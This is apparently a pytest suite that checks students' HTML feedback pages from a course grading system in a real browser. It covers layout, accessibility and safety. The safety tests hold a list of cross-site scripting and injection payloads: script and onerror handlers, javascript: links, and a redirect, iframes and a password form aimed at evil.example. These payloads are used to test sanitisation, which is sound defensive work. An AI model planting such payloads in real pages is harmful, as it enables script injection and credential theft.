"""Students' pages in a real browser: what they look like, who can use them, what they never do."""

# ruff: noqa: E501  (an attack stands on one line)

from __future__ import annotations

import shutil
from collections.abc import Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from browsers import SCHEMES, WIDTHS, accessible, browser, inside, opened
from playwright.sync_api import Browser
from tiny import LAB, forget_checks, grade, write_course

from course import feedback
from course.config import load_settings
from course.demo import make_course, write_class
from course.gradebook.totals import CellMark, Marks
from course.lab import Lab
from course.plot import Mark, Plot, Role, Series
from course.record import Record
from course.release import release
from course.reports import pages
from course.reports.pages import student
from course.reports.pages.student import Feedback

pytestmark = pytest.mark.slow

ROOT = Path(__file__).parents[2]
KINDS = {  # of the sample class
    "full": "ada",
    "typical": "hana",
    "repaired": "anouk",
    "nothing": "walid",
    "zero": "diego",
    "waiting": "zeno",
}
USUAL = 500_000  # bytes


@pytest.fixture(scope="module")
def chrome() -> Iterator[Browser]:
    with browser() as started:
        yield started


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Pages of Lab 1's sample class; `waiting` was handed in and never graded."""
    settings = make_course(load_settings(ROOT), tmp_path_factory.mktemp("pages") / "course")
    write_class(settings, "lab1")
    for folder in settings.folder("submitted").iterdir():
        if folder.name not in KINDS.values():
            shutil.rmtree(folder)
    graded = [name for kind, name in KINDS.items() if kind != "waiting"]
    grade(settings, "lab1", *graded)
    feedback.write(settings, "lab1")
    return {kind: feedback.page(settings, "lab1", name) for kind, name in KINDS.items()}


# --- looks and access ----------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("width", WIDTHS)
def test_a_typical_page_at_every_width(
    chrome: Browser, samples: dict[str, Path], tmp_path: Path, width: int, scheme: str
) -> None:
    with opened(chrome, samples["typical"], width, scheme) as seen:
        inside(seen.page)
        accessible(seen.page)
        light = seen.page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (light == "rgb(246, 244, 238)") == (scheme == "light")
        assert seen.page.screenshot(path=tmp_path / f"{width}-{scheme}.png", full_page=True)
        assert (seen.requests, seen.errors) == ([], [])


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind != "typical"])
def test_every_kind_of_page(chrome: Browser, samples: dict[str, Path], kind: str) -> None:
    for width, scheme in ((390, "dark"), (1440, "light")):
        with opened(chrome, samples[kind], width, scheme) as seen:
            inside(seen.page)
            accessible(seen.page)
            assert (seen.requests, seen.errors) == ([], [])


def test_a_usual_page_is_small(samples: dict[str, Path]) -> None:
    sizes = {kind: path.stat().st_size for kind, path in samples.items()}
    assert max(sizes.values()) < USUAL, sizes
    assert "left out to keep" not in samples["typical"].read_text(encoding="utf-8")


def test_a_reader_without_eyes_or_mouse(chrome: Browser, samples: dict[str, Path]) -> None:
    with opened(chrome, samples["typical"], 820) as seen:
        page = seen.page
        levels = page.evaluate(
            "[...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.tagName[1])"
        )
        assert levels[0] == 1
        assert levels.count(1) == 1
        jumps = [(a, b) for a, b in pairwise(levels) if b > a + 1]
        assert jumps == []
        assert page.evaluate("[...document.images].every(each => each.alt.length > 10)")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the report"
        assert page.evaluate("document.activeElement.getBoundingClientRect().top") >= 0
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        page.keyboard.press("Tab")
        assert "Exercise 1" in page.evaluate("document.activeElement.textContent")
        page.keyboard.press("Enter")
        top = page.evaluate("document.querySelector('#exercise-1').getBoundingClientRect().top")
        assert -5 <= top < 200, "the link leads there"


def test_pictures_say_in_words_what_they_show(chrome: Browser, samples: dict[str, Path]) -> None:
    with opened(chrome, samples["typical"]) as seen:
        named = seen.page.get_by_role("img", name="The path of your descent From (2.5, 4.0)")
        assert named.count() == 1
        assert seen.page.locator("svg.plot[role=img]").count() == 3


def test_it_prints(chrome: Browser, samples: dict[str, Path]) -> None:
    with opened(chrome, samples["typical"], scheme="dark") as seen:
        seen.page.emulate_media(media="print")
        assert (
            seen.page.evaluate("getComputedStyle(document.body).backgroundColor")
            == "rgb(255, 255, 255)"
        )
        assert seen.page.pdf().startswith(b"%PDF")


# --- safety --------------------------------------------------------------------------------------

EVIL = "https://evil.example"
COVER = "position:fixed;inset:0;z-index:99999;background:red"
ATTACKS = {
    "script": "<script>window.hacked = 1; alert(1)</script>",
    "script that closes": "</code></pre></div></script><script>window.hacked = 1</script>",
    "handler": "<img src=x onerror='window.hacked = 1'><b onmouseover=alert(1)>b</b>",
    "svg": "<svg onload='window.hacked=1'><script>window.hacked=1</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "svg use": f"<svg><use href='{EVIL}/x.svg#x'/><image href='{EVIL}/x.png'/><style>*{{display:none}}</style></svg>",
    "remote picture": f"<img src={EVIL}/x.png> ![spy]({EVIL}/spy.png) <img srcset='{EVIL}/x.png 2x'>",
    "picture in words": f"""<img src="{EVIL}/x.png" alt='"><script>window.hacked = 1</script>'>""",
    "style": "<style>body{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "cover": f"<div style='{COVER}'>cover</div><div class='skip note card' id='main' style='{COVER}'>x</div>",
    "links": "[x](javascript:alert(1)) <a href='java\tscript:alert(1)'>y</a> <a href='data:text/html,<script>alert(1)</script>'>z</a> [w](vbscript:x)",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}/'>",
    "form": f"<form action='{EVIL}'><input name=password><button>Log in</button></form><textarea>",
    "frames": f"<iframe src='{EVIL}'></iframe><iframe srcdoc='<script>parent.hacked=1</script>'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    "media": f"<video src='{EVIL}/v' autoplay></video><audio src='{EVIL}/a'></audio>",
    "mathml": f"$\\href{{javascript:alert(1)}}{{x}}$ $\\text{{<script>window.hacked=1</script>}}$ <math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math> <maction actiontype='statusline#{EVIL}' xlink:href='javascript:alert(1)'>x</maction>",
    "mathml style": f"$\\style{{{COVER}}}{{x}} \\class{{skip}}{{y}} \\mspace{{99999em}}$ $$\\color{{red}}{{\\kern{{-999em}} z}}$$",
    "unclosed": "<div><table><tr><td><details><summary>never closed <b><i><pre><!-- ",
    "comment": "<!--><script>window.hacked=1</script>-->",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "template": "{{ 7 * 7 }} {% raw %} {{ ''.__class__.__mro__ }}",
    "bidi and controls": "\u202eevil\u202c \x1b[31mred\x1b[0m \x00 \r overwritten",
    "placeholder": "\ue0000\ue001 \ue00099\ue001",
    "data picture": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'> <img src='data:text/html,x'>",
    "wide": "W" * 5000 + " <table width=99999><tr><td width=99999 height=99999>w</td></tr></table>",
}
ALL = "\n\n".join(ATTACKS.values())


def hostile(what: str) -> Feedback:
    """A record, a notebook and a gradebook in which every text is this one."""
    check = {"name": "t", "title": what, "verdict": "failed", "points": 0, "max_points": 4}
    evidence = {"call": what, "expected": what, "got": what, "tolerance": what}
    check |= {"message": what, "evidence": evidence}
    cells: list[dict[str, Any]] = [
        {"grade_id": "test_double", "points": 0, "max_points": 4, "checks": [check],
         "diagnosis": {"name": what, "message": what}},
        {"grade_id": what, "points": 0, "max_points": 6, "checks": [{**check, "max_points": 6}]},
        {"grade_id": "answer_why", "points": 0, "max_points": 5, "manual": True},
    ]  # fmt: skip
    picture = Plot(
        name=what,
        title=what,
        text=what,
        x_label=what,
        y_label=what,
        series=(Series.of(Role.YOURS, Mark.PATH, [(0, 0), (1, 1)], what),),
    )
    record = Record.model_validate(
        {
            "student": what,
            "lab": LAB,
            "status": "graded",
            "max_points": 15,
            "cells": cells,
            "repairs": [{"rule": what, "cell": what, "sentence": what}],
            "limits_hit": [{"limit": what, "where": what, "sentence": what}],
            "pictures": [picture, picture.model_copy(update={"series": ()})],
            "versions": {"course": what},
            "submission_hash": what,
        }
    )
    marks = Marks(what, (CellMark("answer_why", 5.0, None, 1.0, None, False),), 0.0, None)
    comments = {"answer_why": what, "double": what}
    return Feedback(_SETTINGS[0], _SETTINGS[1], record, _notebook(what), marks, comments)


def _notebook(what: str) -> list[dict[str, Any]]:
    labels = {"nbgrader": {"grade_id": "double", "solution": True}}
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": what},
        {"output_type": "display_data", "data": {"text/html": what, "text/plain": what}},
        {"output_type": "display_data", "data": {"image/svg+xml": what, "text/plain": what}},
        {"output_type": "display_data", "data": {"image/png": what}},
        {"output_type": "display_data", "data": {"image/png": 'iVBORw0KGgo" onerror="alert(1)'}},
        {"output_type": "error", "ename": what, "evalue": what, "traceback": [what]},
    ]
    return [
        {"cell_type": "markdown", "id": what, "metadata": {}, "source": what},
        {"cell_type": "markdown", "metadata": {}, "source": f"# {what}\n\n```html\n{what}\n```\n\n```{what}\nx\n```\n\n$${what}$$"},
        {"cell_type": "code", "metadata": labels, "source": what, "outputs": outputs},
        {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": what, "locked": True}}, "source": f"# @title {what}", "outputs": outputs},
        {"cell_type": what, "metadata": {}, "source": [what, what]},
    ]  # fmt: skip


_SETTINGS: list[Any] = []


@pytest.fixture(scope="module", autouse=True)
def tiny_course(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    folder = write_course(tmp_path_factory.mktemp("hostile") / "course")
    settings = load_settings(folder).override(reveal="counterexample")
    release(settings, LAB)
    _SETTINGS[:] = [settings, Lab.load(settings, LAB)]
    yield
    forget_checks()


LIVE = """() => ({
    hacked: window.hacked,
    title: document.title,
    live: [...document.querySelectorAll(
        'script, iframe, frame, object, embed, form, input, textarea, button, link, base, video, '
        + 'audio, maction, mglyph, use, image, foreignObject, style ~ style, '
        + 'meta[http-equiv=refresh], [style], [srcset], [href^="javascript" i], [href^="data" i]'
    )].map(each => each.outerHTML.slice(0, 120)),
    handlers: [...document.querySelectorAll('*')].filter(each =>
        [...each.attributes].some(one => one.name.startsWith('on'))).length,
    sources: [...document.images].filter(each => !/^data:image\\/(png|jpeg|gif|webp);base64,/
        .test(each.src)).length,
    ids: [...document.querySelectorAll('[id]')].map(each => each.id),
    free: [...document.querySelectorAll('body *')].filter(each =>
        ['fixed', 'sticky', 'absolute'].includes(getComputedStyle(each).position)
        && !each.matches('body > .skip')).length,
    styles: document.styleSheets.length,
    cells: [...document.querySelectorAll('.cell')].every(each =>
        each.parentElement.matches('.notebook')),
    body: getComputedStyle(document.body).display,
})"""


STYLED = """() => [...document.querySelectorAll('[style]')].filter(each =>
    getComputedStyle(each).position === 'fixed' && !each.matches('.skip')).length"""


@pytest.mark.parametrize("name", [*ATTACKS, "all"])
def test_nothing_of_an_attack_comes_alive(chrome: Browser, tmp_path: Path, name: str) -> None:
    attack = ATTACKS.get(name, ALL)
    html = student.render(hostile(attack))
    with opened(chrome, pages.write(tmp_path / "page.html", html), 820) as seen:
        page = seen.page
        page.mouse.move(400, 400)
        found = page.evaluate(LIVE)
        assert found["hacked"] is None
        assert found["live"] == []
        assert (found["handlers"], found["sources"], found["free"]) == (0, 0, 0)
        assert (found["styles"], found["body"], found["cells"]) == (1, "block", True)
        assert len(set(found["ids"])) == len(found["ids"])
        assert (seen.requests, seen.dialogs, seen.windows) == ([], [], [])
        assert page.locator("main > .section").count() == 5, "the page is still whole"
        assert page.locator(".notebook > .cell").count() == 5
        inside(page)


def test_a_hostile_page_is_still_a_page_for_everybody(chrome: Browser, tmp_path: Path) -> None:
    path = pages.write(tmp_path / "page.html", student.render(hostile(ALL)))
    with opened(chrome, path, 390) as seen:
        accessible(seen.page, but=".cell.prose")  # those are the student's own words
        seen.page.screenshot(path=tmp_path / "hostile.png")


def test_a_hostile_student_of_whom_nothing_can_be_shown(chrome: Browser, tmp_path: Path) -> None:
    html = student.render_problem(_SETTINGS[0], LAB, ALL, "Not yet.")
    with opened(chrome, pages.write(tmp_path / "page.html", html), 390) as seen:
        assert seen.page.evaluate(LIVE)["live"] == []
        inside(seen.page)
        accessible(seen.page)


@pytest.mark.parametrize("name", [name for name in ATTACKS if name != "refresh"])
def test_were_nothing_escaped_the_policy_would_hold(
    chrome: Browser, tmp_path: Path, name: str
) -> None:
    """The attack goes into the page raw: as if a template had forgotten to escape it."""
    html = student.render(hostile("calm")).replace("<h1>", f"{ATTACKS[name]}<h1>", 1)
    with opened(chrome, pages.write(tmp_path / "page.html", html), 820) as seen:
        seen.page.wait_for_timeout(100)
        assert seen.page.evaluate("window.hacked") is None
        assert seen.page.evaluate("getComputedStyle(document.body).display") == "block"
        assert seen.page.evaluate(STYLED) == 0
        assert seen.dialogs == []
        assert [url for url in seen.requests if url.startswith("http")] == []
